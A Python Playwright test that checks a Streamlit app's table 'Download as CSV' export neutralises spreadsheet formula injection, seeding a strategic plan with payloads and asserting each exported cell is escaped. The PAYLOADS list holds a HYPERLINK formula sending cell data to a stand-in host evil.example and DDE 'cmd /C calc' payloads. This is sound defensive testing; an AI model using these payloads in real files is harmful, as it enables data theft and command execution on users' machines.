"""Browser: the table toolbar's own "Download as CSV" of a payload plan has no cell that a spreadsheet runs as a
formula (issue 28 item 3). `python serve.py` + Debian's Chromium (Playwright), the plan imported by the template."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from plandb import importer
from reports.safe_csv import is_formula
from scripts import harness

pytestmark = pytest.mark.skipif(harness.chromium_path() is None, reason=harness.NO_CHROMIUM)
PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Bax")', "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1)",
            "-2+3+cmd|' /C calc'!A0"]


def payload_plan(site: Path) -> Path:
    """The seed template plus a QKU 2027 plan whose action titles are formula payloads (as an editor could type)."""
    from reports.template import build_template

    path = site / "payload.xlsx"
    path.write_bytes(build_template())
    wb = load_workbook(path)
    doc = "qku_plan_2027"
    wb["plans"].append([doc, "xlsx_template", "QKU", "=HYPERLINK(\"http://evil.example\",\"Plan\")", 2027, 2027])
    wb["goals"].append([doc, 1, "@SUM(A1)"])
    wb["targets"].append([doc, 1, 1, "+SUM(1,2)"])
    head = [c.value for c in wb["actions"][1]]
    for n, title in enumerate(PAYLOADS, start=1):
        values = {"document_id": doc, "seq": n, "goal_no": 1, "target_no": 1, "action_no": n, "title": title,
                  "deadline_raw": "2027", "vice_rector_1": "academic", "lead_unit_1": "Keyfiyyətin Təminatı Mərkəzi"}
        wb["actions"].append([values.get(h) for h in head])
    for ws in wb.worksheets:  # typed as text (as an editor's cell is), not stored as formulas
        for row in ws.iter_rows(min_row=max(1, ws.max_row - len(PAYLOADS))):
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    cell.data_type = "s"
    wb.save(path)
    return path


def test_the_toolbar_csv_of_a_payload_plan_runs_nothing(site):
    from playwright.sync_api import sync_playwright

    assert importer.apply(payload_plan(site), "QKU editor").applied
    with harness.start_server({"STRATEGY_DB": str(site / "s.duckdb")}) as server, sync_playwright() as p:
        url = server.url
        browser = harness.launch_browser(p)
        try:
            context = browser.new_context(accept_downloads=True, viewport={"width": 1400, "height": 1000})
            # no native save dialog: Streamlit's exporter then downloads the file as a link does
            context.add_init_script("delete window.showSaveFilePicker;")
            page = context.new_page()
            page.goto(f"{url}/explorer?plan=QKU")  # Azerbaijani: the titles as written (English marks them [az])
            grid = page.wait_for_selector('[data-testid="stDataFrame"]', timeout=90000)
            grid.hover()
            button = page.wait_for_selector('[data-testid="stElementToolbar"] button[aria-label="Download as CSV"]',
                                            timeout=20000)
            with page.expect_download(timeout=30000) as got:
                button.click()
            data = Path(got.value.path()).read_bytes().decode("utf-8-sig")
        finally:
            browser.close()
    rows = list(csv.reader(io.StringIO(data, newline="")))
    cells = [c for row in rows for c in row]
    assert len(rows) > 100  # the whole QKU table, not an empty file
    assert {"'" + p for p in PAYLOADS} <= set(cells), "the payloads are in the download, neutralised"
    assert not [c for c in cells if is_formula(c)], [c for c in cells if is_formula(c)][:5]
